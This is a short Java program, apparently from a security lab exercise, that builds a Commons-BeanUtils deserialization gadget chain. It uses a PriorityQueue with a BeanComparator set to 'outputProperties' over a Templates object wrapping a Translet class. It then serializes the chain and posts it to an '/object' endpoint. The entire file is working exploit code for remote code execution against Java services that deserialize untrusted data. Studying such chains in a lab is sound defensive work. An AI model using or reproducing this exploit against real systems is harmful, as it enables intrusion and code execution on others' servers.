import java.util.PriorityQueue;
import org.apache.commons.beanutils.BeanComparator;
import whorl.lab.attack.Attacker;
import whorl.lab.attack.Templates;

public class Attack {
  public static void main(String[] args) throws Exception {
    Object templates = Templates.of(Translet.class);
    BeanComparator comparator = new BeanComparator("lowestSetBit");
    PriorityQueue<Object> queue = new PriorityQueue<>(2, comparator);
    queue.add(java.math.BigInteger.ONE);
    queue.add(java.math.BigInteger.ONE);
    Attacker.set(comparator, "property", "outputProperties");
    Attacker.set(queue, "queue", new Object[] {templates, templates});
    Attacker.post("/object", Attacker.serialized(queue));
    Attacker.done();
  }
}
